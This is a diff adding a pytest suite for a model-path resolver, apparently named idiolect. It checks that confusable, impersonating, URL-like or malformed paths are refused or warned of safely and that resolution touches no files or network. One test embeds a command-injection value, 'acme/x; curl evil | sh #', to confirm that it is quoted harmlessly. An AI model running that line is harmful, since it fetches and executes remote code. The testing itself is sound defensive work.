@@ -1,0 +1,207 @@
+"""Model paths as users, config files and attackers send them. Holds whichever families are installed."""
+
+import json
+import subprocess
+import sys
+import time
+import warnings
+from pathlib import Path, PurePosixPath
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+import idiolect
+from idiolect.errors import IdiolectError, InvalidModelPathError, ModelPathWarning, UnknownModelError
+from idiolect.registry.registry import Registry
+
+CASES = json.loads((Path(__file__).parent / "data/hostile_paths.json").read_text("utf-8"))["cases"]
+# Where the family that a path resolves to is not also the name of a package.
+PACKAGES = {"llama-2": "llama", "llama-3": "llama", "chatml": "fastchat", "openchat": "fastchat", "starling": "fastchat"}
+INSTALLED = {info.package for info in idiolect.plugins()}
+
+
+def cases(*expected, threat=None):
+    chosen = [case for case in CASES if case["expect"] in expected and threat in (None, case["threat"])]
+    assert chosen
+    return pytest.mark.parametrize("case", chosen, ids=[f"{case['id']}-{case['threat']}" for case in chosen])
+
+
+def path_of(case):
+    return eval(case["path_expr"]) if "path_expr" in case else case["path"]
+
+
+def outcome(path, registry=idiolect):
+    """Return what a path resolves to, or the error."""
+    try:
+        return registry.resolve(path)
+    except IdiolectError as error:
+        return error
+
+
+def check_family(path, package):
+    """Assert that a package speaks for a path, or, where it is not installed, that no other family does and the error names it."""
+    found = outcome(path)
+    if package in INSTALLED:
+        assert found.package == package
+    elif isinstance(found, UnknownModelError):
+        assert found.install == package
+        assert f"try: pip install {package}  (from a checkout: pip install ./plugins/{package.removeprefix('idiolect-')})" in str(found)
+    else:
+        assert found.adapter.fallback
+
+
+def check_unknown(path):
+    error = outcome(path)
+    assert type(error) is UnknownModelError
+    assert str(error).replace("\n", "").isprintable()
+    return error
+
+
+@cases("resolve")
+def test_a_path_resolves_to_its_family_or_the_error_names_the_package(case):
+    check_family(case["path"], f"idiolect-{PACKAGES.get(case['to'], case['to'])}")
+
+
+@cases("error")
+def test_what_cannot_name_a_model_is_refused_quickly_and_shown_harmlessly(case):
+    path = path_of(case)
+    took = []
+    for _ in range(3):
+        begun = time.perf_counter()
+        with pytest.raises(InvalidModelPathError) as caught:
+            idiolect.resolve(path)
+        took.append(time.perf_counter() - begun)
+    assert min(took) < 0.010
+    text = str(caught.value)
+    assert "\n  try: " in text
+    assert text.replace("\n", "").isprintable()
+    assert len(text) < 500
+    assert isinstance(caught.value, TypeError) == (case["threat"] == "type")
+
+
+@cases("error")
+def test_a_default_is_for_unknown_models_and_not_for_what_cannot_name_one(case):
+    with pytest.raises(InvalidModelPathError):
+        idiolect.get_conversation_template(path_of(case), default="chatml")
+
+
+@cases("error", "resolve-or-error", threat="url")
+def test_an_address_is_never_repeated_in_an_error(case):
+    with pytest.raises(InvalidModelPathError) as caught:
+        idiolect.resolve(case["path"])
+    assert case["path"].partition(":")[2].strip("/") not in str(caught.value)
+    assert "pass" not in str(caught.value)
+
+
+@cases("no-match")
+def test_a_path_that_only_looks_like_a_model_is_unknown(case):
+    check_unknown(case["path"])
+
+
+@cases("no-match", threat="confusable")
+def test_letters_that_look_like_others_are_shown_by_their_code_points(case):
+    error = check_unknown(case["path"])
+    for letter in case["path"]:
+        assert letter.isascii() or f"U+{ord(letter):04X}" in str(error)
+
+
+@pytest.mark.parametrize(
+    ("path", "meant"),
+    [("lmsys/vi\u0441una-7b-v1.5", "lmsys/vicuna-7b-v1.5"), ("lmsys/vicun\u0430-7b", "lmsys/vicuna-7b"), ("llama\u20102", "llama-2")],
+)
+def test_the_name_that_a_path_imitates_is_suggested(path, meant):
+    assert f"did you mean {meant!r}?" in str(check_unknown(path))
+
+
+@cases("resolve-with-warning")
+def test_an_imitated_owner_is_warned_of(case):
+    family = "llama" if "lama" in case["path"] else "internlm"
+    # A registry of its own: one that has resolved the path already does not warn again.
+    registry = Registry()
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        resolution = outcome(case["path"], registry)
+    if f"idiolect-{family}" not in INSTALLED and isinstance(resolution, UnknownModelError):
+        assert resolution.install == f"idiolect-{family}"
+        return
+    (warning,) = [each for each in caught if each.category is ModelPathWarning]
+    owner = case["path"].partition("/")[0]
+    assert str(warning.message).startswith(f"the owner {owner!a} looks like ")
+    assert resolution.warnings == (str(warning.message),)
+
+
+@cases("no-match-or-warn")
+def test_a_word_inside_another_is_no_claim(case):
+    found = outcome(case["path"])
+    assert type(found) is UnknownModelError or found.adapter.fallback, "only a fallback may guess, and it shows that it does"
+
+
+@pytest.mark.parametrize("path", ["lmsys/vicuna-7b-v1.5", "Qwen/Qwen2.5-7B-Instruct"])
+def test_a_path_object_is_as_good_as_text(path):
+    check_family(PurePosixPath(path), "idiolect-vicuna" if "vicuna" in path else "idiolect-qwen")
+
+
+@pytest.mark.parametrize("path", [b"lmsys/vicuna-7b-v1.5", Path, 1.5, ("lmsys", "vicuna")])
+def test_what_is_neither_text_nor_a_path_object_is_a_type_error(path):
+    with pytest.raises(TypeError, match="a model path is text or path-like, not ") as caught:
+        idiolect.resolve(path)
+    assert isinstance(caught.value, IdiolectError)
+
+
+@given(st.text() | st.text("/\\.:@-_~ vicuna7b\u0441\u2010", max_size=40))
+def test_no_text_brings_forth_another_error_than_ours(path):
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", ModelPathWarning)
+        found = outcome(path)
+    assert not isinstance(found, IdiolectError) or "\n  try: " in str(found)
+
+
+def test_a_path_cannot_write_a_command_into_the_advice():
+    assert str(check_unknown("acme/x; curl evil | sh #")).endswith("   or: idiolect why 'acme/x; curl evil | sh #'")
+    assert len(str(check_unknown(f"acme/{'x' * 4000}"))) < 1000
+
+
+WATCHED = """
+import json, os, sys
+import idiolect
+from idiolect.errors import IdiolectError
+paths = json.loads(sys.argv[1])
+def resolve_all(paths):
+    for path in paths:
+        try:
+            idiolect.resolve(path)
+        except IdiolectError:
+            pass
+resolve_all(paths)  # discovery, and whatever is imported when first needed
+seen = []
+watching = False
+def watch(event, arguments):
+    if watching and (event in ("open", "import") or event.startswith(("os.", "socket.", "subprocess."))):
+        seen.append([event, repr(arguments)])
+sys.addaudithook(watch)
+# Asking for a file's status raises no audit event.
+for name in ("stat", "lstat", "access", "readlink"):
+    def watched(*arguments, name=name, function=getattr(os, name), **options):
+        watch(f"os.{name}", arguments)
+        return function(*arguments, **options)
+    setattr(os, name, watched)
+watching = True
+resolve_all([*paths, *(f"{path}-never-seen" for path in paths)])
+watching = False
+quiet, seen = seen, []
+watching = True
+os.path.exists("/")
+open(os.devnull).close()
+watching = False
+print(json.dumps([quiet, [event for event, _ in seen]]))
+"""
+
+
+def test_resolving_a_name_touches_neither_files_nor_the_network():
+    paths = [path for case in CASES if isinstance(path := path_of(case), str) and path.count("/") == 1 and path[0] != "/" and len(path) < 100]
+    assert len(paths) > 10
+    done = subprocess.run([sys.executable, "-W", "ignore", "-c", WATCHED, json.dumps(paths)], capture_output=True, text=True, check=True)
+    touched, check = json.loads(done.stdout)
+    assert touched == []
+    assert check == ["os.stat", "open"], "the watch itself must work"
